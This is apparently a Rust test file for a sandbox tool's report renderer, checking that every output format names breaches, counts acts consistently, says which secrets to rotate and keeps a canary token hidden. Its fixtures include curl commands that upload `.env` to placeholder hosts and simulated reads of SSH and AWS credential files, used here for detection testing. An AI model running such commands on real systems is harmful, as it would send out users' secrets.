//! What every form has to tell, whatever its words: rendered from one report, looked for in each.

use super::samples::*;
use super::{Format, Material, assemble, terminal};
use crate::model::report::{Report, Weakness};
use crate::model::{Act, Mode, Rule, Severity, Status};

/// Each form as a reader sees it: without tags, entities and marks of its own.
fn forms(report: &Report) -> Vec<(&'static str, String)> {
    let written = |format: Format| {
        let mut out = Vec::new();
        format.write(report, &mut out).unwrap();
        String::from_utf8(out).unwrap()
    };
    let read = |text: String| {
        let mut shown = text.replace("<code>", "").replace("</code>", "").replace("&amp;", "&").replace("&quot;", "\"");
        for c in (b'!'..=b'~').map(char::from).filter(char::is_ascii_punctuation) {
            shown = shown.replace(&format!("&#{};", c as u32), &c.to_string());
        }
        shown
    };
    let mut shown = Vec::new();
    terminal::after(&mut shown, report, None, terminal::Style::default()).unwrap();
    vec![
        ("terminal", String::from_utf8(shown).unwrap()),
        ("html", read(written(Format::Html))),
        ("markdown", read(written(Format::Markdown))),
        ("sarif", written(Format::Sarif).replace("\\\"", "\"")),
    ]
}

/// Those that tell incidents and nothing else.
fn of_incidents(report: &Report) -> Vec<(&'static str, String)> {
    let forms = [("junit", Format::JUnit), ("code quality", Format::CodeQuality)];
    let written = forms.map(|(form, format)| {
        let mut out = Vec::new();
        format.write(report, &mut out).unwrap();
        (form, String::from_utf8(out).unwrap().replace("&quot;", "\"").replace("\\\"", "\""))
    });
    written.into()
}

#[track_caller]
fn all_say(report: &Report, words: &[&str]) {
    for (form, text) in forms(report).into_iter().chain(of_incidents(report)) {
        for word in words {
            assert!(text.contains(word), "{form} says no {word:?}:\n{text}");
        }
    }
}

fn run(words: &[&str]) -> Act {
    Act::Exec { path: "/usr/bin/curl".into(), argv: words.iter().map(|word| (*word).into()).collect() }
}

#[test]
fn what_was_run_is_told_with_its_words() {
    let mut material = material();
    let calls = ["http://h/one", "http://h/two", "http://h/three"];
    for url in calls {
        let act = run(&["curl", "-H", "X: a b", "-F", "file=@.env", url]);
        material.breaches.push(breach(BUILD, 400, act, Rule::ExecDownloader, Severity::High));
    }
    let report = assemble(&material, &facts(), &Graph);
    all_say(&report, &["curl -H \"X: a b\" -F file=@.env http://h/one", "http://h/two", "http://h/three"]);
    // One alone, too.
    material.breaches.truncate(1);
    all_say(&assemble(&material, &facts(), &Graph), &["file=@.env http://h/one"]);
}

/// A secret that was on a command line, in the address of a server, in a word to cargo, in what a finding would allow.
#[test]
fn no_form_holds_a_secret() {
    const CANARY: &str = "CANARY0123456789abcdef";
    let mut material = stolen_env();
    let header = format!("Authorization: Bearer {CANARY}");
    let (url, variable) = (format!("https://u:{CANARY}@h.example/x?token={CANARY}"), format!("API_TOKEN={CANARY}"));
    let act = run(&["curl", "-H", &header, "--password", CANARY, &url]);
    material.breaches.push(breach(BUILD, 400, act.clone(), Rule::ExecDownloader, Severity::High));
    material.behaviours = vec![did(BUILD, act, Status::Allowed, 1)];
    material.processes[2].argv = ["env", &variable, "curl", &url].map(Into::into).to_vec();
    material.actors[1].argv = ["build-script-build", &variable, &url].map(Into::into).to_vec();
    material.actors[3].argv = ["app", "--token", CANARY].map(Into::into).to_vec();
    let mut facts = facts();
    facts.run.command = ["cargo", "publish", "--token", CANARY].map(Into::into).to_vec();
    let report = assemble(&material, &facts, &Graph);
    let mut log = Vec::new();
    super::markdown::annotations(&report, &mut log).unwrap();
    let mut more = vec![("annotations", String::from_utf8(log).unwrap())];
    for format in Format::ALL {
        let mut out = Vec::new();
        format.write(&report, &mut out).unwrap();
        more.push((format.option(), String::from_utf8(out).unwrap()));
    }
    for (form, text) in forms(&report).into_iter().chain(more) {
        assert!(form == "--egress" || text.contains("curl"), "{form} tells nothing of it:\n{text}");
        assert!(!text.contains(CANARY), "{form}:\n{text}");
    }
}

#[test]
fn a_correlation_names_the_secret_and_the_way_out() {
    let mut material = stolen_env();
    material.breaches.push(breach(BUILD, 400, connect("203.0.113.7:443"), Rule::NetConnect, Severity::High));
    let mut report = assemble(&material, &facts(), &Graph);
    // Nothing but the correlation, so that nobody else says it.
    report.findings.retain(|finding| finding.rule == Rule::SecretThenNetwork);
    report.behaviour.clear();
    all_say(&report, &["{workspace}/.env", "203.0.113.7:443"]);
}

#[test]
fn what_is_to_be_rotated_is_told_everywhere() {
    let mut material = stolen_env();
    material.breaches.push(breach(BUILD, 400, connect("203.0.113.7:443"), Rule::NetConnect, Severity::High));
    material.breaches.iter_mut().for_each(|(event, _)| event.status = Status::Observed);
    let mut facts = facts();
    facts.run.mode = Mode::Observe;
    let report = assemble(&material, &facts, &Graph);
    assert_eq!(report.rotate.len(), 1);
    // Of what is told besides nothing may say it for it.
    let only = Report { findings: report.findings.iter().filter(|one| one.rule == Rule::SecretRead).cloned().collect(), ..report.clone() };
    for (form, text) in forms(&report) {
        assert!(text.to_lowercase().contains("rotate"), "{form}:\n{text}");
        assert!(text.contains("quickfetch-sys") && text.contains("0.3.2, which also used the network"), "{form}:\n{text}");
    }
    assert!(forms(&only).iter().all(|(_, text)| text.contains("{workspace}/.env") && !text.contains("also used the network")));
    // It stands as the findings do, and where nothing was let through there is nothing to rotate.
    let mut next = assemble(&Material::default(), &facts, &Graph);
    super::runs::standing::carry(&mut next, &report, &|_| false);
    assert_eq!(next.rotate.len(), 1);
    assert_eq!(assemble(&stolen_env(), &facts, &Graph).rotate, []);
}

/// A script reads two secrets, one of them five times, and connects; tests read another: four acts, each by what is worst about it.
#[test]
fn numbers_agree() {
    let mut material = stolen_env();
    material.breaches.push((breach(BUILD, 400, read("/home/u/.ssh/id"), Rule::SecretRead, Severity::High).0, 5));
    material.breaches.push(breach(BUILD, 400, connect("203.0.113.7:443"), Rule::NetConnect, Severity::High));
    material.breaches.push(breach(TESTS, 1200, read("/home/u/.aws/credentials"), Rule::SecretRead, Severity::Medium));
    let report = assemble(&material, &facts(), &Graph);
    assert_eq!(report.outcome.counts.refused, 8);
    let told: Vec<_> = forms(&report).into_iter().filter(|(form, _)| *form != "sarif").collect();
    for (form, text) in told {
        assert!(text.contains("4 acts of 2 crates") && text.contains("(2 critical, 1 high, 1 medium; tried 8 times)"), "{form}:\n{text}");
    }
}

/// The same act by two crates in one program is two acts, each critical by its own connection.
#[test]
fn crates_that_do_the_same_are_counted_each() {
    let mut material = material();
    for name in ["chrono_anchor", "honest"] {
        let mut own = vec![
            breach(TESTS, 1200, read("/home/u/app/.env"), Rule::SecretRead, Severity::High),
            breach(TESTS, 1200, connect("203.0.113.7:443"), Rule::NetConnect, Severity::High),
        ];
        own.iter_mut().for_each(|(event, _)| event.blame = stack(&[(name, None), ("app", None)]));
        material.breaches.extend(own);
    }
    let report = assemble(&material, &facts(), &Graph);
    assert_eq!((report.outcome.counts.refused, report.outcome.counts.findings["critical"]), (4, 2));
    for (form, text) in forms(&report).into_iter().filter(|(form, _)| *form != "sarif") {
        assert!(text.contains("4 acts of 2 crates") && text.contains("(2 critical, 2 high)"), "{form}:\n{text}");
    }
}

#[test]
fn refusals_without_alarm_are_no_secret_of_a_clean_run() {
    let mut material = material();
    material.behaviours = vec![did(BUILD, read("/home/u/.cvsrc"), Status::Refused, 3)];
    let report = assemble(&material, &facts(), &Graph);
    for (form, text) in forms(&report).into_iter().filter(|(form, _)| *form != "sarif") {
        assert!(text.contains("without alarm"), "{form}:\n{text}");
    }
    // What there is an alarm about is no such.
    assert!(forms(&assemble(&stolen_env(), &facts(), &Graph)).iter().all(|(_, text)| !text.contains("without alarm")));
}

#[test]
fn what_the_gate_holds_alone_is_no_degradation() {
    let mut report = assemble(&material(), &facts(), &Graph);
    let weak = |covered| Weakness { what: "unix sockets".into(), means: "the gate alone".into(), covered };
    report.enforcement.degraded = vec![weak(true)];
    for (form, text) in forms(&report) {
        assert!(!text.to_lowercase().contains("degraded"), "{form}:\n{text}");
        assert!(form == "terminal" || text.contains("unix sockets"), "{form}:\n{text}");
    }
    report.enforcement.degraded = vec![weak(false)];
    assert!(forms(&report).iter().all(|(_, text)| text.to_lowercase().contains("degraded")));
}

/// A shorthand of a later rule would put the bar back into the colour of the text.
#[test]
fn the_bar_of_the_verdict_has_the_colour_of_the_verdict() {
    let style = include_str!("html/style.css");
    let rules = || style.lines().filter_map(|line| line.split_once('{'));
    for class in ["violation", "incomplete", "observed", "not-run", "clean"] {
        let is_of = |selectors: &str| selectors.split(',').any(|one| one.trim() == format!(".{class}"));
        let colored = rules().position(|(selectors, body)| is_of(selectors) && body.contains("border-color"));
        let colored = colored.unwrap_or_else(|| panic!(".{class} has no colour"));
        let after = rules().skip(colored + 1).filter(|(selectors, _)| selectors.split(',').any(|one| one.trim() == ".verdict"));
        for (_, body) in after {
            assert!(!body.contains("border:") && !body.contains("border-left:") && !body.contains("color"), "{body}");
        }
    }
}
